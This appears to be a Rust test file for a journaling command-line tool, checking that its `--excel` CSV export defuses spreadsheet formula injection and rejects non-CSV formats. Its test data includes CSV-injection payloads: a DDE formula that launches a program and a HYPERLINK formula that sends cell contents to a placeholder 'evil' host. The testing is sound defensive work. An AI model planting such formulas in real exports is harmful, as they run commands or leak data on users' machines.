//! `--format csv`, for programs as it was written, and with `--excel` for Excel.

use crate::sandbox::{Ran, Sandbox};
use std::fs;

/// What Excel would take for a formula, and what only looks like one.
const FORMULAS: [&str; 8] = [
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"https://evil/?\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=\"한글\"",
    "1+1=2",
    "'=quoted",
];

fn journal() -> Sandbox {
    let items: String = FORMULAS.iter().map(|text| format!("* {text}\n")).collect();
    let entry = format!("# =title()\n\n## Keep\n\n{items}\n## Try\n\n* =try()\n* 산책하기, \"매일\"\n");
    Sandbox::with_config("[journal]\nlanguage = \"ko\"\n")
        .file("2025-01-13.md", &entry)
        .file("@folder/2025-01-14.md", "# a\n\n## Keep\n\n* 회고\n")
}

/// The rows, without a byte order mark; fails where a cell does not read back.
fn rows(ran: &Ran) -> Vec<Vec<String>> {
    let text = ran.succeeds().stdout();
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let lines = csv_of(text);
    assert!(lines.iter().all(|row| row.len() == 8), "{lines:?}");
    lines
}

/// RFC 4180, read by hand: the program under test writes it with the crate that would read it.
fn csv_of(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\n' if !quoted => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    rows
}

fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

#[test]
fn without_the_flag_every_cell_is_what_was_written() {
    let ran = journal().hoego(&["week", "--format", "csv"]).stdout();
    assert!(ran.starts_with("kind,"), "no byte order mark: {ran}");
    let cells: Vec<String> = csv_of(&ran).concat();
    for text in FORMULAS {
        assert!(cells.iter().any(|cell| cell == text), "{text}: {cells:?}");
    }
}

#[test]
fn for_excel_no_cell_is_a_formula_and_all_of_it_is_still_there() {
    let sandbox = journal();
    for arguments in [
        &["week", "--format", "csv"][..],
        &["month", "--format", "csv"],
        &[
            "export",
            "--from",
            "2025-01-01",
            "--to",
            "2025-01-31",
            "--format",
            "csv",
        ],
    ] {
        let plain = rows(&sandbox.hoego(arguments));
        let ran = sandbox.hoego(&[arguments, &["--excel"]].concat());
        assert!(ran.stdout().starts_with("\u{feff}kind,"), "{arguments:?}");
        assert_eq!(ran.stdout().matches('\u{feff}').count(), 1);
        let excel = rows(&ran);
        assert!(plain.iter().flatten().filter(|cell| is_formula(cell)).count() >= 8);
        assert!(!excel.iter().flatten().any(|cell| is_formula(cell)), "{excel:?}");
        let expected = plain.iter().map(|row| {
            let guarded = |cell: &String| {
                if is_formula(cell) {
                    format!("'{cell}")
                } else {
                    cell.clone()
                }
            };
            row.iter().map(guarded).collect::<Vec<String>>()
        });
        assert_eq!(excel, expected.collect::<Vec<_>>());
        assert!(
            excel.iter().flatten().any(|cell| cell == "'=quoted"),
            "a quote that is there stays one"
        );
        assert!(
            excel.iter().flatten().any(|cell| cell == "'@folder/2025-01-14.md"),
            "paths too"
        );
    }
}

#[test]
fn a_file_for_excel_is_written_by_its_ending_too() {
    let sandbox = journal();
    sandbox
        .hoego(&["week", "--excel", "-o", "../home/week.csv"])
        .succeeds()
        .silent();
    let bytes = fs::read(sandbox.home().join("week.csv")).expect("written");
    assert!(bytes.starts_with(b"\xef\xbb\xbfkind,date,"));
    // What is asked for again is not answered with what was told before.
    sandbox.hoego(&["week", "--format", "csv"]).succeeds();
    let ran = sandbox.hoego(&["week", "--format", "csv", "--excel"]).stdout();
    assert!(ran.starts_with('\u{feff}'));
    assert!(
        sandbox
            .hoego(&["week", "--format", "csv"])
            .stdout()
            .starts_with("kind,")
    );
}

#[test]
fn it_is_refused_where_there_is_no_csv() {
    let sandbox = journal();
    let before = sandbox.files();
    for arguments in [
        &["week", "--excel"][..],
        &["week", "--excel", "--json"],
        &["month", "--excel", "--format", "html"],
        &["export", "--from", "-3", "--to", "today", "--excel", "-o", "a.md"],
        &["week", "--excel", "--format", "json", "-o", "a.csv"],
    ] {
        let ran = sandbox.hoego(arguments);
        ran.fails()
            .stderr_has("error: `--excel` is for CSV alone\n")
            .stderr_has("hint: add `--format csv`");
    }
    sandbox
        .hoego(&["week", "--review", "--excel"])
        .fails()
        .stderr_has("`--excel`");
    assert_eq!(sandbox.files(), before);
}
